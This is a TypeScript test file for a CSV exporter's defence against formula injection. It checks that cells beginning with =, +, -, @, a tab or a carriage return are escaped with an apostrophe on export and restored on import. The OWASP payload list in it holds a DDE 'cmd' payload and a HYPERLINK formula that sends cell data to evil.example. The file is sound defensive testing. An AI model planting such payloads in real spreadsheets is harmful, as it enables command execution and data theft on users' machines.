// CSV export against formula injection (OWASP "CSV Injection"): a cell that Excel would run as a formula is written
// with a leading apostrophe, and the import reads it back as the text it was.
import { describe, expect, it } from 'vitest';
import type { Sheet } from '../sheets';
import { sheetToCsv } from './export';
import { readSpreadsheet } from './read';

/** The OWASP payload list, and texts next to them that must stay as they are. */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1',
  '\r=1',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "'=already quoted",
  "''+twice",
  '-5',
];
const PLAIN = ['2026-03-05', '鲁保发〔2026〕3号', "it's", "'plain apostrophe", '0001-0003', 'a=b', ''];

function sheetOf(rows: string[][]): Sheet {
  return {
    name: 'documents',
    title: '涉密文件登记台账',
    unitName: '',
    filterText: '',
    columns: [
      { key: 'a', label: '标题', width: 1 },
      { key: 'b', label: '备注', width: 1 },
    ],
    rows,
    highestLevel: null,
    markingText: '=marking',
  };
}

describe('CSV export against formula injection', () => {
  it('writes every formula-leading cell (= + - @, or a tab or CR first) with a leading apostrophe, plain cells as they are', () => {
    const text = sheetToCsv(sheetOf([...PAYLOADS, ...PLAIN].map((p) => [p, 'x']))).toString('utf8');
    const cells = text.slice(1).split('\r\n');
    expect(cells[0]).toBe("'=marking");
    expect(cells[2]).toBe("'=cmd|' /C calc'!A0,x");
    expect(cells[3]).toBe("'+1+1,x");
    expect(cells[4]).toBe("'-2+3,x");
    expect(cells[5]).toBe(`"'@SUM(1,1)",x`);
    expect(cells[6]).toBe("'\t=1,x");
    // A negative number in a text column is neutralized too: the register's cells are all text.
    expect(cells[11]).toBe("'-5,x");
    expect(cells.slice(12, 12 + PLAIN.length - 1)).toEqual(['2026-03-05,x', '鲁保发〔2026〕3号,x', "it's,x", "'plain apostrophe,x", '0001-0003,x', 'a=b,x']);
    // No line of the file starts a cell with a formula character.
    for (const line of text.slice(1).split(/\r\n/)) expect(line).not.toMatch(/^"?[=+\-@\t\r]/);
  });

  it('reads each neutralized cell back as the original text (an apostrophe before a formula character was the export’s)', async () => {
    const rows = [...PAYLOADS, ...PLAIN].map((p) => [p, p]);
    const file = await readSpreadsheet('台账.csv', sheetToCsv(sheetOf(rows)));
    const grid = file.sheets[0]!.rows;
    expect(grid[0]).toEqual(['=marking']);
    expect(grid.slice(2).map((r) => [r[0] ?? '', r[1] ?? ''])).toEqual(rows);
  });

  it('reads a neutralized cell of a CSV written elsewhere the same way', async () => {
    const file = await readSpreadsheet('x.csv', Buffer.from(`'=1+1,'-5,"'@A1",'x\r\n`, 'utf8'));
    expect(file.sheets[0]!.rows).toEqual([['=1+1', '-5', '@A1', "'x"]]);
  });
});
